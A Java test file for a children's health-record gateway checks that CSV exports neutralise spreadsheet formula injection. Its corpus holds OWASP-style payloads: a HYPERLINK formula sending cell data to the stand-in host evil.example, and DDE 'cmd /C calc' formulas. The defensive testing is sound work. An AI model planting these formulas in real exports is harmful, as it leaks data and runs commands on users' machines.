package org.childrensgateway.mappers;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Patient;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Formula injection: values a spreadsheet would run (the OWASP corpus) arriving through each feed,
 * or set on FHIR resources as the API would store them, leave every CSV export as text.
 */
class CsvInjectionTest {

    static List<String> corpus() {
        return List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1");
    }

    /**
     * No cell of the CSV starts as a formula would; the value itself is kept, behind a quote (feeds
     * trim the white space around a value, so an ingested tab-led value arrives as its formula).
     */
    private static void assertNoFormula(String csv, String value) throws IOException {
        List<String> cells = new ArrayList<>();
        try (CSVParser parser = CSVParser.builder().setReader(new java.io.StringReader(csv)).setFormat(CSVFormat.RFC4180).get()) {
            for (CSVRecord record : parser) {
                record.forEach(cells::add);
            }
        }
        assertThat(cells).noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
        assertThat(cells).containsAnyOf("'" + value, "'" + value.strip());
    }

    private static String csvQuoted(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    private static List<OutboundRecord> outbound(List<MappedRecord> records) {
        assertThat(records).noneMatch(MappedRecord::isQuarantined);
        return RoundTripTest.outbound(records);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aRioCarePlanTitleIsExportedAsText(String value) throws IOException {
        String sample = Files.readString(Samples.DIR.resolve("rio-careplans.csv"), StandardCharsets.UTF_8)
                .replace("Speech and language support", csvQuoted(value));
        List<MappedRecord> records = read("rio", "careplans", sample);
        StringWriter out = new StringWriter();
        Samples.REGISTRY.writer("rio", "careplans").write(outbound(records), out);
        assertNoFormula(out.toString(), value);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aRioForenameIsExportedAsTextInChildrensCentreNotifications(String value) throws IOException {
        String sample = Files.readString(Samples.DIR.resolve("rio-clients.csv"), StandardCharsets.UTF_8).replace("Amelia Rose", csvQuoted(value));
        MappedRecord child = Samples.bySource(read("rio", "clients", sample), "RIO1000123");
        assertThat(child.isQuarantined()).isFalse();
        StringWriter out = new StringWriter();
        Samples.REGISTRY.writer("childrens-centre", "notifications").write(List.of(new OutboundRecord("", child.resources(),
                Map.of("CentreCode", "CC-TORFAEN-01", "Reason", "BIRTH", "SharedUnder", "LIVE-BIRTH-ISP"))), out);
        assertNoFormula(out.toString(), value);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void fhirApiValuesAreExportedAsText(String value) throws IOException {
        // As a Patient and Observations written through the FHIR API would be stored.
        MappedRecord amelia = Samples.bySource(Samples.read("rio", "clients", "rio-clients.csv"), "RIO1000123");
        Patient patient = (Patient) amelia.resources().stream().filter(Patient.class::isInstance).findFirst().orElseThrow();
        patient.getNameFirstRep().getGiven().clear();
        patient.getNameFirstRep().addGiven(value);
        StringWriter notifications = new StringWriter();
        Samples.REGISTRY.writer("childrens-centre", "notifications").write(List.of(new OutboundRecord("", amelia.resources(),
                Map.of("CentreCode", "CC-TORFAEN-01", "Reason", "BIRTH", "SharedUnder", "LIVE-BIRTH-ISP"))), notifications);
        assertNoFormula(notifications.toString(), value);

        List<Observation> events = Samples.read("systmone", "extract", "systmone-extract.xml").get(0).resources().stream()
                .filter(Observation.class::isInstance).map(Observation.class::cast).toList();
        events.get(1).setValue(new org.hl7.fhir.r4.model.StringType(value));
        StringWriter assessments = new StringWriter();
        Samples.REGISTRY.writer("rio", "assessments").write("RIO1000123", events, assessments);
        assertNoFormula(assessments.toString(), value);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aChildrensCentreValueIsExportedAsText(String value) throws IOException {
        String sample = Files.readString(Samples.DIR.resolve("cc-registrations.csv"), StandardCharsets.UTF_8);
        String firstValueRow = sample.lines().skip(1).findFirst().orElseThrow();
        String[] cells = firstValueRow.split(",", -1);
        assertThat(cells.length).isGreaterThan(3);
        List<MappedRecord> records = read("childrens-centre", "registrations", sample);
        StringWriter out = new StringWriter();
        Samples.REGISTRY.writer("childrens-centre", "registrations").write(outbound(records), out);
        // Baseline: the sample round-trips; then a forename set to the value, as an ingested one would be.
        Patient child = (Patient) records.get(0).resources().stream().filter(Patient.class::isInstance).findFirst().orElseThrow();
        child.getNameFirstRep().getGiven().clear();
        child.getNameFirstRep().addGiven(value);
        StringWriter again = new StringWriter();
        Samples.REGISTRY.writer("childrens-centre", "registrations").write(RoundTripTest.outbound(records), again);
        assertNoFormula(again.toString(), value);
    }

    private static List<MappedRecord> read(String feed, String file, String content) {
        try (RecordStream s = Samples.REGISTRY.reader(feed, file).open(new ByteArrayInputStream(content.getBytes(StandardCharsets.UTF_8)))) {
            List<MappedRecord> out = new ArrayList<>();
            s.forEach(out::add);
            return out;
        }
    }
}
